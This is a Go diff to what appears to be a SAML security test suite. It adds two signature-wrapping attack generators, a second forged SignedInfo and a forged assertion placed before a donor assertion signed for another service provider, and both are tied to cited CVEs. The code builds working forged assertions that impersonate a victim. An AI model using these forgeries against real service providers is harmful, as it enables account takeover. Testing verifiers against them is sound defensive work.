@@ -491,7 +491,9 @@ func escapeText(s string) string {
 	d := etree.NewDocument()
 	d.SetRoot(etree.NewElement("x"))
 	d.Root().SetText(s)
-	d.WriteTo(&buf)
+	if _, err := d.WriteTo(&buf); err != nil {
+		return s // a bytes.Buffer does not fail
+	}
 	out := buf.String()
 	return out[len("<x>") : len(out)-len("</x>")]
 }
@@ -720,6 +722,82 @@ func EmptyReferenceURI(v Victim, idp *Identity) Attack {
 				ext := etree.NewElement("samlp:Extensions")
 				ext.AddChild(resp)
 				evil.InsertChildAt(schemaPosition(evil), ext)
+				return nil
+			})}}
+}
+
+// SecondSignedInfo is S30 in its two-SignedInfo form (CVE-2025-29774,
+// xml-crypto; CVE-2026-33487, goxmldsig < 1.6.0): the signed Assertion's
+// subject becomes the victim's after signing, and a second ds:SignedInfo,
+// a copy of the genuine one whose DigestValue matches the forged
+// Assertion, follows the SignatureValue. A verifier that checks the
+// SignatureValue over the first SignedInfo and the digests of the last is
+// fooled.
+func SecondSignedInfo(v Victim) Attack {
+	return Attack{ID: "S30", Variant: "two-signedinfo", Title: "forged Assertion, a second SignedInfo with its digest",
+		References: []string{"CVE-2025-29774", "CVE-2026-33487"}, Oracle: OracleRejects,
+		StillVerifies: []SignedPart{{Name: "the SignatureValue over the first SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
+		Mutations: []Mutation{signWith(SignAssertion), afterSigning("second-signedinfo", func(doc *etree.Document) error {
+			_, as, err := responseParts(doc)
+			if err != nil {
+				return err
+			}
+			sig, err := ownSignature(as)
+			if err != nil {
+				return err
+			}
+			si := childNS(sig, nsDSig, dsig.SignedInfoTag)
+			sv := childNS(sig, nsDSig, dsig.SignatureValueTag)
+			if si == nil || sv == nil {
+				return errors.New("signature without SignedInfo or SignatureValue")
+			}
+			if err := impersonate(as, v); err != nil {
+				return err
+			}
+			forged, err := referenceDigest(as)
+			if err != nil {
+				return err
+			}
+			second := si.Copy()
+			dv := second.FindElement(sig.Space + ":Reference/" + sig.Space + ":DigestValue")
+			if dv == nil {
+				return errors.New("no ds:DigestValue")
+			}
+			dv.SetText(forged)
+			sig.InsertChildAt(sv.Index()+1, second)
+			return nil
+		})}}
+}
+
+// DonorAssertion is S20 (CVE-2024-9487, "signed SAML response or metadata
+// document"; passport-saml GHSA-m974-647v-whv7): the IdP signs an
+// Assertion for another SP (Audience otherSP: the donor), and an unsigned
+// forged copy for the victim, addressed to sp, is placed before it. The
+// donor's signature is genuine; nothing signed names sp or the victim.
+func DonorAssertion(v Victim, sp SPInfo, otherSP string) Attack {
+	return Attack{ID: "S20", Variant: "other-sp-assertion", Title: "an assertion signed for another SP as donor, a forged one for this SP before it",
+		References: []string{"CVE-2024-9487", "GHSA-m974-647v-whv7"}, Oracle: OracleRejects,
+		StillVerifies: []SignedPart{{Name: "the donor Assertion", Element: pathAssertion2, Signature: pathAssertion2Sig}},
+		Mutations: []Mutation{signWith(SignAssertion),
+			specEdit("donor-audience", func(_ *ResponseSpec, a *AssertionSpec) {
+				if a.Conditions != nil {
+					a.Conditions.Audiences = []string{otherSP}
+				}
+			}),
+			afterSigning("forged-before-donor", func(doc *etree.Document) error {
+				resp, as, err := responseParts(doc)
+				if err != nil {
+					return err
+				}
+				evil := unsignedCopy(as)
+				evil.CreateAttr("ID", NewID())
+				if err := impersonate(evil, v); err != nil {
+					return err
+				}
+				for _, aud := range findAll(evil, nsAssertion, "Audience") {
+					aud.SetText(sp.EntityID)
+				}
+				resp.InsertChildAt(as.Index(), evil)
 				return nil
 			})}}
 }
